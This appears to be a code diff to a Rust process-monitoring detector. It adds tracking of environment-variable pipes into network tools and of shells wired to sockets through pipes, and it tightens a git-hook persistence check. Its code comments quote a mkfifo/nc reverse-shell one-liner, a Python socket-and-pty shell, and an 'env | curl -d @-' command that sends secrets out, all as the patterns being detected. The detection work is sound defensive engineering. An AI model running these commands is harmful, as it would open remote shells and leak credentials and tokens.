@@ -686,6 +686,10 @@ pub struct Facts {
     pub written_ids: Bounded<(u64, u64), FileKey>,
     /// Pipes a network tool writes into.
     pub fetch_pipes: Bounded<(u64, u64), ()>,
+    /// Pipes `env`/`printenv` write into.
+    pub env_pipes: Bounded<(u64, u64), ()>,
+    /// Pipes network tools read their stdin from.
+    pub network_stdin_pipes: Bounded<(u64, u64), ()>,
     /// Pipes a decoder writes into.
     pub decode_pipes: Bounded<(u64, u64), ()>,
     /// Pipes a shell or interpreter reads its program from, with the reader's pid.
@@ -735,6 +739,8 @@ impl Default for Facts {
             discovery: Bounded::new(DISCOVERY_MAX),
             written_ids: Bounded::new(WRITTEN_FILES_MAX),
             fetch_pipes: Bounded::new(PIPES_MAX),
+            env_pipes: Bounded::new(PIPES_MAX),
+            network_stdin_pipes: Bounded::new(PIPES_MAX),
             decode_pipes: Bounded::new(PIPES_MAX),
             interpreter_pipes: Bounded::new(PIPES_MAX),
             account_discovery: Bounded::new(DISCOVERY_MAX),
@@ -768,6 +774,8 @@ impl Facts {
             || self.discovery.overflowed()
             || self.written_ids.overflowed()
             || self.fetch_pipes.overflowed()
+            || self.env_pipes.overflowed()
+            || self.network_stdin_pipes.overflowed()
             || self.decode_pipes.overflowed()
             || self.interpreter_pipes.overflowed()
             || self.account_discovery.overflowed()
@@ -825,12 +833,13 @@ impl Facts {
     /// A tainted file of an earlier session, opened or run by this one.
     /// The persistence kind of a path written in this session: [`persistence_kind`], except
     /// a git hook in a repository the session created or cloned itself (it wrote the
-    /// repository's `config` or `HEAD`): that is the project's own hook.
+    /// repository's `description` or `info/exclude`, which only `git init` and `git clone`
+    /// write): that is the project's own hook.
     pub fn persistence_kind(&self, path: &str) -> Option<&'static str> {
         let kind = persistence_kind(path)?;
         if kind == "git_hook"
             && let Some(git) = git_dir_of_hook(super::classify::match_key(path))
-            && ["config", "HEAD"].iter().any(|f| {
+            && ["description", "info/exclude"].iter().any(|f| {
                 self.written
                     .get(&FileKey::path(&format!("{git}{f}")))
                     .is_some()
@@ -906,6 +915,7 @@ impl Facts {
             || name_in(name, &h.shell_names)
             || name_in(name, &h.interpreter_names);
         self.on_exec_context(pf, runs_code, stdin_program, sensed, owner, store);
+        self.on_exec_pipes(pf, name, &argv, sensed, h);
         if let Some(item) = techniques::discovery(name, &argv) {
             if techniques::is_account_discovery(&item) {
                 self.account_discovery.insert(item.clone(), ());
@@ -971,6 +981,57 @@ impl Facts {
     /// [`Self::marks`]); the caller marks them.
     pub fn take_marks(&mut self) -> Vec<u32> {
         std::mem::take(&mut self.marks)
+    }
+
+    /// Shells wired to the network without a socket on their stdio, and the environment
+    /// piped into a network tool.
+    fn on_exec_pipes(
+        &mut self,
+        pf: &ProcessFacts,
+        name: &str,
+        argv: &[String],
+        sensed: &ExecFacts,
+        h: &Heuristics,
+    ) {
+        let stdio = |n: u8| sensed.stdio.iter().find(|s| s.fd == n);
+        let pipe_of = |n: u8| {
+            stdio(n)
+                .filter(|s| s.kind == FdKind::Pipe)
+                .and_then(|s| s.file)
+                .map(|f| (f.dev, f.ino))
+        };
+        // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: an interactive shell on pipes.
+        if name_in(name, &h.shell_names)
+            && techniques::is_interactive_shell(argv)
+            && stdio(0).is_some_and(|s| s.kind == FdKind::Pipe)
+        {
+            self.flags.interpreter_on_socket = true;
+        }
+        // `python3 -c 'import socket,pty; …; pty.spawn("/bin/sh")'`: the shell gets a
+        // terminal, the socket stays in the interpreter.
+        if techniques::inline_wires_shell_to_socket(name, argv) {
+            self.flags.interpreter_on_socket = true;
+        }
+        // `env | curl -d @- …`: the environment (tokens, keys) sent out.
+        if matches!(name, "env" | "printenv")
+            && argv.len() == 1
+            && let Some(p) = pipe_of(1)
+        {
+            self.env_pipes.insert(p, ());
+            if self.network_stdin_pipes.get(&p).is_some() {
+                self.holding
+                    .get_or_insert_with(|| "the environment (env)".to_owned());
+            }
+        }
+        if pf.network_tool
+            && let Some(p) = pipe_of(0)
+        {
+            self.network_stdin_pipes.insert(p, ());
+            if self.env_pipes.get(&p).is_some() {
+                self.holding
+                    .get_or_insert_with(|| "the environment (env)".to_owned());
+            }
+        }
     }
 
     fn identify(&self, key: FileKey, id: Option<FileId>) -> FileKey {
